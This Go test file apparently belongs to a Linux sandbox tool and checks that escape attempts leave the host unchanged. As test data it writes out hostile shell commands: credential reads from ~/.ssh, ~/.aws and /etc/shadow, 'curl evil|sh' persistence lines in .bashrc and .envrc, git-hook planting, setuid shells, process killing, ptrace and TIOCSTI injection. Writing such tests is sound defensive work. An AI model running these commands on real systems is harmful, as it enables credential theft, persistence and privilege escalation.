//go:build linux

package sandbox

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
)

// The escape suite: each scenario is something a fooled classifier or a
// prompt-injected agent might run, with paths disguised so that nothing
// but the sandbox stands in the way. Every check looks at the host after
// the run: what matters is that nothing happened there, not what the
// command printed.

const escSecret = "SAFEEXEC-TEST-SECRET-7d1f"

// escFixture is a project (the writable root) with a git repository, a
// home with credentials, and a directory outside every root.
type escFixture struct {
	root, home, outside string
	quarantine          string // where created protected paths go
	p                   *Policy
	env                 []string
}

func newEscFixture(t *testing.T) *escFixture {
	t.Helper()
	bwBackend(t)
	// Not under /tmp: the sandbox has a private /tmp, which would hide
	// these and prove nothing.
	top, err := os.MkdirTemp(bwFixtureBase(t), ".safeexec-escape-")
	if err != nil {
		t.Skipf("fixture: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(top) })
	f := &escFixture{
		root:       filepath.Join(top, "proj"),
		home:       filepath.Join(top, "home"),
		outside:    filepath.Join(top, "outside"),
		quarantine: filepath.Join(top, "state", "safeexec", "quarantine"),
	}
	t.Setenv("XDG_STATE_HOME", filepath.Join(top, "state"))
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, d := range []string{
		filepath.Join(f.root, ".git", "hooks"), filepath.Join(f.root, "src"),
		filepath.Join(f.home, ".ssh"), filepath.Join(f.home, "dotfiles", "aws"), filepath.Join(f.home, ".config"),
		f.outside,
	} {
		must(os.MkdirAll(d, 0o755))
	}
	write := func(p, s string, mode os.FileMode) { must(os.WriteFile(p, []byte(s), mode)) }
	write(filepath.Join(f.root, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
	write(filepath.Join(f.root, ".git", "HEAD"), "ref: refs/heads/main\n", 0o644)
	write(filepath.Join(f.root, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n", 0o755)
	write(filepath.Join(f.root, ".env"), "SAFE=1\n", 0o644)
	write(filepath.Join(f.root, "src", "main.go"), "package main\n", 0o644)
	write(filepath.Join(f.home, ".ssh", "id_ed25519"), escSecret+"\n", 0o600)
	write(filepath.Join(f.home, "dotfiles", "aws", "credentials"), escSecret+"\n", 0o600)
	must(os.Symlink(filepath.Join(f.home, "dotfiles", "aws"), filepath.Join(f.home, ".aws")))
	write(filepath.Join(f.home, ".npmrc"), "//registry.npmjs.org/:_authToken="+escSecret+"\n", 0o600)
	write(filepath.Join(f.home, ".gitconfig"), "[user]\n\tname = t\n", 0o644)
	write(filepath.Join(f.outside, "file"), "original\n", 0o644)

	f.p = &Policy{
		Mode: Compat, Cwd: f.root, WritableRoots: []string{f.root},
		DenyRead: []string{
			filepath.Join(f.home, ".ssh"), filepath.Join(f.home, ".aws"), filepath.Join(f.home, ".npmrc"),
			filepath.Join(f.home, ".netrc"), filepath.Join(f.home, ".config", "gcloud"), filepath.Join(f.home, ".git-credentials"),
		},
		DenyWrite: []string{".env", ".envrc", ".git/hooks", ".git/config", ".husky", ".safeexec.toml",
			".bashrc", ".zshrc", ".profile", ".mcp.json"},
	}
	f.env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "LC_ALL=C", "HOME=" + f.home,
		"R=" + f.root, "H=" + f.home, "O=" + f.outside}
	return f
}

func (f *escFixture) run(t *testing.T, script string) bwResult {
	t.Helper()
	return bwRunEnv(t, f.p, f.env, "/bin/sh", "-c", script)
}

func (f *escFixture) read(t *testing.T, rel ...string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(rel...))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func escAbsent(t *testing.T, p string) {
	t.Helper()
	if _, err := os.Lstat(p); err == nil {
		t.Errorf("%s exists on the host", p)
	}
}

func escNoSecret(t *testing.T, r bwResult) {
	t.Helper()
	if strings.Contains(r.stdout, escSecret) || strings.Contains(r.stderr, escSecret) {
		t.Errorf("the secret leaked: stdout %q stderr %q", r.stdout, r.stderr)
	}
}

type escScenario struct {
	name   string
	script string
	// check looks at the host after the run.
	check func(t *testing.T, f *escFixture, r bwResult)
}

func outsideUnchanged(t *testing.T, f *escFixture, _ bwResult) {
	t.Helper()
	if got := f.read(t, f.outside, "file"); got != "original\n" {
		t.Errorf("outside file is %q", got)
	}
	if fi, err := os.Stat(filepath.Join(f.outside, "file")); err != nil || fi.Mode().Perm() != 0o644 {
		t.Errorf("outside file mode changed: %v %v", fi.Mode(), err)
	}
	es, _ := os.ReadDir(f.outside)
	if len(es) != 1 {
		t.Errorf("outside directory holds %d entries", len(es))
	}
}

func gitIntact(t *testing.T, f *escFixture, _ bwResult) {
	t.Helper()
	if got := f.read(t, f.root, ".git", "config"); got != "[core]\n\tbare = false\n" {
		t.Errorf(".git/config is %q", got)
	}
	es, err := os.ReadDir(filepath.Join(f.root, ".git", "hooks"))
	if err != nil || len(es) != 1 || es[0].Name() != "pre-commit.sample" {
		t.Errorf(".git/hooks: %v %v", es, err)
	}
	escAbsent(t, filepath.Join(f.root, ".g"))
	escAbsent(t, filepath.Join(f.root, ".git2"))
}

func noSecret(t *testing.T, _ *escFixture, r bwResult) { t.Helper(); escNoSecret(t, r) }

// escNoSetID fails when a file in the root has the set-user-ID or
// set-group-ID bit on the host.
func escNoSetID(t *testing.T, f *escFixture, r bwResult) {
	t.Helper()
	if err := noSetID(f.root); err != nil {
		t.Errorf("%v\nstdout: %s", err, r.stdout)
	}
}

// noSetID returns an error naming the files below dir that have the
// set-user-ID or set-group-ID bit.
func noSetID(dir string) error {
	var bad []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		if fi, err := os.Lstat(p); err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
			bad = append(bad, fmt.Sprintf("%s (%v)", p, fi.Mode()))
		}
		return nil
	})
	if len(bad) > 0 {
		return fmt.Errorf("set-id files on the host: %s", strings.Join(bad, ", "))
	}
	return nil
}

// escMovedAway checks that what the command created at the protected path
// rel of the root is gone from there, kept in the quarantine, and reported.
func escMovedAway(rel ...string) func(t *testing.T, f *escFixture, r bwResult) {
	return func(t *testing.T, f *escFixture, r bwResult) {
		t.Helper()
		for _, n := range rel {
			p := filepath.Join(f.root, n)
			escAbsent(t, p)
			if !strings.Contains(r.stderr, "safeexec: the command created "+p+", a protected path; moved it to "+f.quarantine) {
				t.Errorf("no report of %s on stderr: %q", n, r.stderr)
			}
			if qs, _ := filepath.Glob(filepath.Join(f.quarantine, "*", p)); len(qs) != 1 {
				t.Errorf("%s not in the quarantine: %v", n, qs)
			}
		}
	}
}

func TestEscape(t *testing.T) {
	// safeexec's own environment holds a secret the command never gets.
	t.Setenv("SAFEEXEC_TEST_TOKEN", escSecret)
	scenarios := []escScenario{
		// Writes outside the roots.
		{"write outside", `echo pwned > "$O/file"`, outsideUnchanged},
		{"create outside", `echo pwned > "$O/new"; mkdir "$O/d"`, outsideUnchanged},
		{"symlink out of the root", `ln -s "$O/file" link && echo pwned > link; ln -s "$O" dl && echo x > dl/new`, outsideUnchanged},
		{"hard link out of the root", `ln "$O/file" hl && echo pwned > hl`, outsideUnchanged},
		{"rename out of the root", `mv "$O/file" ./stolen; mv src "$O/"`, func(t *testing.T, f *escFixture, r bwResult) {
			outsideUnchanged(t, f, r)
			if _, err := os.Stat(filepath.Join(f.root, "src", "main.go")); err != nil {
				t.Errorf("src moved: %v", err)
			}
		}},
		{"delete outside", `rm -rf "$O/file" "$O"`, outsideUnchanged},
		{"chmod outside", `chmod 777 "$O/file"; chmod 777 "$O"`, outsideUnchanged},
		{"dot-dot traversal", `d=$(basename "$O"); echo pwned > "$R/../$d/file"`, outsideUnchanged},
		{"through /proc/self/root", `echo pwned > "/proc/self/root$O/file"`, outsideUnchanged},
		{"through /proc/self/cwd", `d=$(basename "$O"); echo pwned > "/proc/self/cwd/../$d/file"`, outsideUnchanged},
		{"home rc file", `echo 'curl evil|sh' >> "$H/.bashrc"; echo x > "$H/.profile"`, func(t *testing.T, f *escFixture, _ bwResult) {
			escAbsent(t, filepath.Join(f.home, ".bashrc"))
			escAbsent(t, filepath.Join(f.home, ".profile"))
		}},
		{"system directories", `p=/usr/local/bin; echo x > $p/safeexec-pwned; echo x > /etc/safeexec-pwned; touch /var/safeexec-pwned`, func(t *testing.T, _ *escFixture, _ bwResult) {
			for _, p := range []string{"/usr/local/bin/safeexec-pwned", "/etc/safeexec-pwned", "/var/safeexec-pwned"} {
				escAbsent(t, p)
			}
		}},
		{"fill the host tmp", `echo x > /tmp/safeexec-escape-marker; echo x > /var/tmp/safeexec-escape-marker`, func(t *testing.T, _ *escFixture, _ bwResult) {
			escAbsent(t, "/tmp/safeexec-escape-marker")
			escAbsent(t, "/var/tmp/safeexec-escape-marker")
		}},

		// Protected paths inside the root.
		{"plant a git hook", `h=.git/ho; printf '#!/bin/sh\necho pwned\n' > ${h}oks/pre-commit; chmod +x ${h}oks/pre-commit`, gitIntact},
		{"rewrite git config", `git config core.hooksPath /tmp 2>/dev/null; echo '[core] fsmonitor = evil' >> .git/config`, gitIntact},
		{"rename .git and rebuild", `mv .git .g; mkdir -p .git/hooks && echo pwned > .git/hooks/pre-commit`, gitIntact},
		{"copy .git aside and swap", `cp -a .git .git2 && rm -rf .git; mv .git2 .git`, gitIntact},
		{"remove .git", `rm -rf .git; rm -rf .git/hooks .git/config`, gitIntact},
		{"replace hooks by a link", `rm -rf .git/hooks; ln -sfn /tmp .git/hooks; mv .git/hooks .git/h2`, gitIntact},
		{"through /proc/self/root into hooks", `echo pwned > "/proc/self/root$R/.git/hooks/post-checkout"`, gitIntact},
		// A protected path that does not exist is not blocked during the
		// run (a placeholder would show on the host): what the command
		// creates there does not survive it.
		{"new .envrc does not survive the run", `echo 'curl evil|sh' > .envrc`, escMovedAway(".envrc")},
		{"new rc files in the root", `for n in bashrc zshrc profile; do echo pwned > ".$n"; done`, escMovedAway(".bashrc", ".zshrc", ".profile")},
		{"new .mcp.json", `echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json`, escMovedAway(".mcp.json")},
		{"new hooksPath directory", `mkdir -p .husky && echo pwned > .husky/pre-commit`, escMovedAway(".husky")},
		{"new project config", `echo '[network]' > .safeexec.toml`, escMovedAway(".safeexec.toml")},
		{"new .envrc as a link", `ln -s "$O/file" .envrc; ln -s /etc/passwd .profile`, escMovedAway(".envrc", ".profile")},
		{"new .envrc behind a renamed directory", `mkdir d && echo evil > d/.envrc && mv d/.envrc .envrc`, escMovedAway(".envrc")},
		{"edit .env", `echo NODE_OPTIONS=--require=./evil.js >> .env; sed -i s/SAFE/EVIL/ .env`, func(t *testing.T, f *escFixture, _ bwResult) {
			if got := f.read(t, f.root, ".env"); got != "SAFE=1\n" {
				t.Errorf(".env is %q", got)
			}
		}},
		{"replace .env by rename", `echo EVIL=1 > e2; mv e2 .env; mv .env .env.old`, func(t *testing.T, f *escFixture, _ bwResult) {
			if got := f.read(t, f.root, ".env"); got != "SAFE=1\n" {
				t.Errorf(".env is %q", got)
			}
		}},

		// Credential reads.
		{"read ssh key", `cat "$H/.ssh/id_ed25519"; ls -la "$H/.ssh"`, noSecret},
		{"read a symlinked credential", `cat "$H/.aws/credentials"`, noSecret},
		{"read the symlink's target", `cat "$H/dotfiles/aws/credentials"; cat "$H"/dot*/aws/*`, noSecret},
		{"read npmrc", `cat "$H/.npmrc"`, noSecret},
		{"read through /proc/self/root", `cat "/proc/self/root$H/.ssh/id_ed25519" "/proc/self/root$H/.npmrc"`, noSecret},
		{"read through dot-dot", `h=$(basename "$H"); cat "$R/../$h/.ssh/id_ed25519"`, noSecret},
		{"read by glob", `cat "$H"/.s?h/* "$H"/.np*; cat "$H"/*/*/cred*`, noSecret},
		{"read everything", `find "$H" -type f -exec cat {} + 2>/dev/null; grep -r "" "$H" 2>/dev/null; tar cf - "$H" 2>/dev/null | strings`, noSecret},
		{"copy the key into the root", `cp "$H/.ssh/id_ed25519" stolen; cp -r "$H/.ssh" sshcopy`, func(t *testing.T, f *escFixture, r bwResult) {
			escNoSecret(t, r)
			if strings.Contains(f.read(t, f.root, "stolen"), escSecret) || strings.Contains(f.read(t, f.root, "sshcopy", "id_ed25519"), escSecret) {
				t.Errorf("the key was copied into the root")
			}
		}},

		// Secrets of the host processes.
		{"environment of other processes", `cat /proc/*/environ 2>/dev/null | tr '\0' '\n'; env`, noSecret},
		{"command lines of host processes", `cat /proc/*/cmdline 2>/dev/null | tr '\0' ' '; ps aux 2>/dev/null`, noSecret},

		// Processes.
		{"kill host processes", `kill -9 -1; for p in $(seq 2 400); do kill -9 $p 2>/dev/null; done; true`, nil}, // checked in TestEscapeProcesses
		{"ptrace the parent", `python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
print(libc.ptrace(16, 1, 0, 0), ctypes.get_errno())
"`, func(t *testing.T, _ *escFixture, r bwResult) {
			if strings.Contains(r.stdout, "0 0") {
				t.Errorf("ptrace attach succeeded: %q", r.stdout)
			}
		}},

		// Privileges.
		{"mount over the root", `mkdir -p m; mount -t tmpfs none m; mount --bind / m; unshare -rm sh -c "mount -t tmpfs none m && touch m/x"`, func(t *testing.T, f *escFixture, _ bwResult) {
			escAbsent(t, filepath.Join(f.root, "m", "x"))
			if b, _ := os.ReadFile("/proc/self/mountinfo"); bytes.Contains(b, []byte(filepath.Join(f.root, "m"))) {
				t.Errorf("a mount appeared on the host")
			}
		}},
		{"new user namespace", `unshare -U -r id; unshare -r -n true && echo unshared`, func(t *testing.T, _ *escFixture, r bwResult) {
			if strings.Contains(r.stdout, "unshared") || strings.Contains(r.stdout, "uid=0") {
				t.Errorf("a namespace was created: %q", r.stdout)
			}
		}},
		{"become root", `python3 -c "import os; os.setuid(0)" 2>&1; su -c id root </dev/null 2>&1; grep -E "CapEff|NoNewPrivs" /proc/self/status`, func(t *testing.T, _ *escFixture, r bwResult) {
			if !strings.Contains(r.stdout, "CapEff:\t0000000000000000") || !strings.Contains(r.stdout, "NoNewPrivs:\t1") {
				t.Errorf("capabilities or no_new_privs: %q", r.stdout)
			}
			if strings.Contains(r.stdout, "uid=0") {
				t.Errorf("became root: %q", r.stdout)
			}
		}},
		{"kernel keyring", `python3 -c "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print('keyctl', libc.syscall(250 if __import__('platform').machine() == 'x86_64' else 219, 0, -3, 0, 0, 0), ctypes.get_errno())
"; cat /proc/keys 2>/dev/null | head -3`, func(t *testing.T, _ *escFixture, r bwResult) {
			if !strings.Contains(r.stdout, fmt.Sprintf("keyctl -1 %d", syscall.EPERM)) {
				t.Errorf("keyctl not refused: %q", r.stdout)
			}
		}},
		{"host sysctls", `echo 5 > /proc/sys/vm/stat_interval; echo x > /proc/sys/kernel/core_pattern; echo 1 > /proc/sysrq-trigger`, func(t *testing.T, _ *escFixture, _ bwResult) {
			if b, _ := os.ReadFile("/proc/sys/kernel/core_pattern"); strings.TrimSpace(string(b)) == "x" {
				t.Errorf("core_pattern changed on the host")
			}
			if b, _ := os.ReadFile("/proc/sys/vm/stat_interval"); strings.TrimSpace(string(b)) == "5" {
				t.Errorf("vm.stat_interval changed on the host")
			}
		}},
		{"sysfs and cgroups", `echo 1 > /sys/fs/cgroup/pids/release_agent; mkdir /sys/fs/cgroup/pids/safeexec-escape; echo x > /sys/kernel/uevent_helper`, func(t *testing.T, _ *escFixture, _ bwResult) {
			escAbsent(t, "/sys/fs/cgroup/pids/safeexec-escape")
		}},
		{"shared memory", `echo pwned > /dev/shm/safeexec-escape; ls /dev/shm`, func(t *testing.T, _ *escFixture, _ bwResult) {
			escAbsent(t, "/dev/shm/safeexec-escape")
		}},
		{"setuid binary planted for later", `cp /bin/sh ./rootsh && chmod u+s ./rootsh; chmod 6755 ./rootsh; ls -l ./rootsh`, escNoSetID},
		// The files a command creates belong, on the host, to whoever ran
		// safeexec (root, mapped onto the command's unprivileged uid): a
		// set-user-ID copy of a shell would give that user's rights to
		// anyone who runs it later. Every way of setting the bit is tried.
		{"setuid bit by every call", `python3 -c "
import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
def tryit(name, f):
    try:
        f(); print(name, 'set')
    except OSError as e:
        print(name, e.errno)
open('f1', 'w').close(); open('f2', 'w').close(); open('f3', 'w').close()
tryit('chmod', lambda: os.chmod('f1', 0o4755))
tryit('fchmod', lambda: os.fchmod(os.open('f2', os.O_RDONLY), 0o2755))
tryit('fchmodat', lambda: os.chmod('f3', 0o6755, dir_fd=os.open('.', os.O_RDONLY)))
tryit('open', lambda: os.close(os.open('f4', os.O_CREAT | os.O_WRONLY, 0o4755)))
tryit('mknod', lambda: os.mknod('f5', 0o104755))
r = libc.syscall(452, -100, b'f1', 0o4755, 0)
print('fchmodat2', r, ctypes.get_errno())
r = libc.syscall(85, b'f6', 0o4755) if os.uname().machine == 'x86_64' else -1
print('creat', r, ctypes.get_errno())
"; install -m 4755 /bin/sh f7; cp -p /usr/bin/passwd f8 2>/dev/null; ls -l f*`, escNoSetID},
	}
	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			f := newEscFixture(t)
			r := f.run(t, sc.script)
			if sc.check != nil {
				sc.check(t, f, r)
			}
			// Whatever the scenario, the protected paths and the outside
			// stay as they were, and nothing remains at a protected path
			// that did not exist.
			gitIntact(t, f, r)
			outsideUnchanged(t, f, r)
			for _, n := range []string{".envrc", ".mcp.json", ".husky", ".bashrc", ".safeexec.toml"} {
				escAbsent(t, filepath.Join(f.root, n))
			}
			escAbsent(t, filepath.Join(f.home, ".netrc"))
			escAbsent(t, filepath.Join(f.home, ".config", "gcloud"))
		})
	}
}

// TestEscapeProcesses: host processes cannot be killed or traced, and
// nothing survives the run.
func TestEscapeProcesses(t *testing.T) {
	f := newEscFixture(t)
	victim := exec.Command("sleep", "60")
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { victim.Process.Kill(); victim.Wait() }()
	r := f.run(t, fmt.Sprintf(`kill -9 %d; kill -9 -1; kill -9 %d; python3 -c "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, %d, 0, 0), ctypes.get_errno())
"; (setsid sh -c 'sleep 300' &) ; nohup sleep 301 >/dev/null 2>&1 &
exit 0`, victim.Process.Pid, os.Getpid(), victim.Process.Pid))
	if err := victim.Process.Signal(syscall.Signal(0)); err != nil {
		t.Errorf("the host process was killed: %v", err)
	}
	if strings.Contains(r.stdout, "0 0") {
		t.Errorf("ptrace of a host process succeeded")
	}
	// No sleep 300/301 survives on the host.
	time.Sleep(50 * time.Millisecond)
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err != nil {
			continue
		}
		if c := string(bytes.ReplaceAll(b, []byte{0}, []byte{' '})); c == "sleep 300 " || c == "sleep 301 " {
			st, _ := os.ReadFile("/proc/" + e.Name() + "/stat")
			if !strings.Contains(string(st), ") Z ") {
				t.Errorf("a process of the sandbox survived: %s %q", e.Name(), c)
			}
		}
	}
}

// TestEscapeSockets: host unix sockets (by path, abstract, the ssh agent)
// and host TCP ports are unreachable.
func TestEscapeSockets(t *testing.T) {
	f := newEscFixture(t)
	dir, err := os.MkdirTemp("", "safeexec-sock-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	var listeners []net.Listener
	listen := func(network, addr string) string {
		l, err := net.Listen(network, addr)
		if err != nil {
			t.Fatalf("listen %s %s: %v", network, addr, err)
		}
		listeners = append(listeners, l)
		return l.Addr().String()
	}
	agent := listen("unix", filepath.Join(dir, "agent.sock"))
	abstract := listen("unix", "@safeexec-escape-"+fmt.Sprint(os.Getpid()))
	tcp := listen("tcp", "127.0.0.1:0")
	var runSock string
	if os.Getuid() == 0 {
		runSock = listen("unix", fmt.Sprintf("/run/safeexec-escape-%d.sock", os.Getpid()))
		defer os.Remove(runSock)
	}
	accepted := make(chan string, 8)
	for _, l := range listeners {
		go func(l net.Listener) {
			c, err := l.Accept()
			if err == nil {
				accepted <- l.Addr().String()
				c.Close()
			}
		}(l)
	}
	f.env = append(f.env, "SSH_AUTH_SOCK="+agent)
	script := fmt.Sprintf(`echo "agent=$SSH_AUTH_SOCK"; python3 -c "
import socket, sys
for fam, addr in ((socket.AF_UNIX, sys.argv[1]), (socket.AF_UNIX, '\0' + sys.argv[2][1:]), (socket.AF_INET, ('127.0.0.1', int(sys.argv[3]))), (socket.AF_UNIX, sys.argv[4] or '/nonexistent')):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(addr); print('connected', addr)
    except OSError as e:
        print('refused', e.errno)
" %q %q %q %q`, agent, abstract, tcp[strings.LastIndex(tcp, ":")+1:], runSock)
	r := f.run(t, script)
	if strings.Contains(r.stdout, "connected") {
		t.Errorf("a host socket was reached: %q", r.stdout)
	}
	if strings.Contains(r.stdout, "agent="+agent) {
		t.Errorf("SSH_AUTH_SOCK passed into the sandbox")
	}
	for _, l := range listeners {
		l.Close()
	}
	select {
	case a := <-accepted:
		t.Errorf("the host accepted a connection on %s", a)
	default:
	}
}

// TestEscapeTIOCSTI gives the sandbox a host terminal and tries to push
// a command into its input queue.
func TestEscapeTIOCSTI(t *testing.T) {
	f := newEscFixture(t)
	ptm, pts, err := pty.Open()
	if err != nil {
		t.Skipf("no pty: %v", err)
	}
	defer ptm.Close()
	defer pts.Close()
	b := bwBackend(t)
	var out bytes.Buffer
	proc, err := b.Start(f.p, &Command{Argv: []string{"python3", "-c", `
import fcntl, termios, sys
for c in "id\n":
    try:
        fcntl.ioctl(0, termios.TIOCSTI, c.encode())
    except OSError as e:
        print("refused", e.errno); break
else:
    print("injected")
`}, Env: f.env, Stdin: pts, Stdout: &out, Stderr: &out})
	if err != nil {
		t.Fatal(err)
	}
	proc.Wait()
	if strings.Contains(out.String(), "injected") {
		t.Errorf("TIOCSTI went through: %q", out.String())
	}
	// Nothing waits in the terminal's input queue on the host side.
	fd := int(pts.Fd())
	if err := syscall.SetNonblock(fd, true); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 16)
	if n, _ := syscall.Read(fd, buf); n > 0 {
		t.Errorf("the host terminal received %q", buf[:n])
	}
}

// TestEscapeCredentialDirCreatedByHost: a missing credential directory
// outside the writable roots stays missing on the host while a sandbox runs
// (no placeholder), a host program can create it meanwhile, and what it
// creates is kept. (The run can read it: doc.go, Limits.)
func TestEscapeCredentialDirCreatedByHost(t *testing.T) {
	f := newEscFixture(t)
	kube := filepath.Join(f.home, ".kube")
	f.p.DenyRead = append(f.p.DenyRead, kube)
	b := bwBackend(t)
	var out bytes.Buffer
	proc, err := b.Start(f.p, &Command{Argv: []string{"/bin/sh", "-c",
		`mkdir "$H/.kube" 2>/dev/null && echo made; while [ ! -e go ]; do sleep 0.02; done`},
		Env: f.env, Stdout: &out, Stderr: &out})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { proc.Kill(); proc.Wait() }()
	for _, p := range []string{kube, filepath.Join(f.home, ".netrc"), filepath.Join(f.home, ".config", "gcloud")} {
		escAbsent(t, p)
	}
	if err := os.Mkdir(kube, 0o700); err != nil {
		t.Errorf("the host could not create %s during the run: %v", kube, err)
	}
	if err := os.WriteFile(filepath.Join(kube, "config"), []byte("host"), 0o600); err != nil {
		t.Errorf("the host could not write into %s: %v", kube, err)
	}
	if err := os.MkdirAll(filepath.Join(f.home, ".config", "gcloud"), 0o700); err != nil {
		t.Errorf("the host could not create ~/.config/gcloud during the run: %v", err)
	}
	os.WriteFile(filepath.Join(f.root, "go"), nil, 0o644)
	if st, err := proc.Wait(); err != nil || st.ExitCode != 0 {
		t.Errorf("run: %+v %v %q", st, err, out.String())
	}
	if strings.Contains(out.String(), "made") {
		t.Errorf("the command created a credential directory outside the roots")
	}
	if got := f.read(t, kube, "config"); got != "host" {
		t.Errorf("the host's new credential after the run: %q", got)
	}
	if _, err := os.Stat(filepath.Join(f.home, ".config", "gcloud")); err != nil {
		t.Errorf("the host's new directory after the run: %v", err)
	}
}

// TestEscapeUnnoticedGitStatus: in a fresh repository, ordinary work sees
// nothing of the sandbox: git status inside prints nothing, and the host's
// working tree is as clean after the run.
func TestEscapeUnnoticedGitStatus(t *testing.T) {
	f := newEscFixture(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	repo := filepath.Join(filepath.Dir(f.root), "fresh")
	git := func(args ...string) string {
		t.Helper()
		c := exec.Command("git", append([]string{"-C", repo}, args...)...)
		c.Env = append(os.Environ(), "HOME="+f.home, "GIT_CONFIG_NOSYSTEM=1")
		out, err := c.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	if err := os.MkdirAll(repo, 0o755); err != nil {
		t.Fatal(err)
	}
	git("init", "-q")
	p := *f.p
	p.Cwd, p.WritableRoots = repo, []string{repo}
	p.DenyWrite = append(p.DenyWrite, ".bash_login", ".bash_profile", ".zprofile", ".zshenv")
	p.DenyRead = append(p.DenyRead, filepath.Join(repo, ".ssh"), filepath.Join(repo, ".aws"))
	r := bwRunEnv(t, &p, append(f.env, "GIT_CONFIG_NOSYSTEM=1"), "/bin/sh", "-c", "git status --porcelain --ignored; echo status=$?")
	if strings.TrimSpace(r.stdout) != "status=0" || r.stderr != "" {
		t.Errorf("git status inside: stdout %q stderr %q", r.stdout, r.stderr)
	}
	if got := git("status", "--porcelain", "--ignored"); got != "" {
		t.Errorf("git status on the host after the run: %q", got)
	}
}

// TestEscapeRootOnlyFiles: run by root, the command cannot read files only
// root may read.
func TestEscapeRootOnlyFiles(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("only meaningful when safeexec runs as root")
	}
	f := newEscFixture(t)
	shadow, err := os.ReadFile("/etc/shadow")
	if err != nil || len(shadow) == 0 {
		t.Skip("no /etc/shadow")
	}
	line, _, _ := strings.Cut(string(shadow), "\n")
	r := f.run(t, `cat /etc/shadow /etc/gshadow; cat /etc/ssh/ssh_host_*_key; id -u`)
	if strings.Contains(r.stdout, line) {
		t.Errorf("/etc/shadow was readable")
	}
	if strings.Contains(r.stdout, "PRIVATE KEY") {
		t.Errorf("a host key was readable")
	}
	if strings.TrimSpace(r.stdout) == "0" || strings.HasSuffix(strings.TrimSpace(r.stdout), "\n0") {
		t.Errorf("the command runs as uid 0 inside")
	}
}
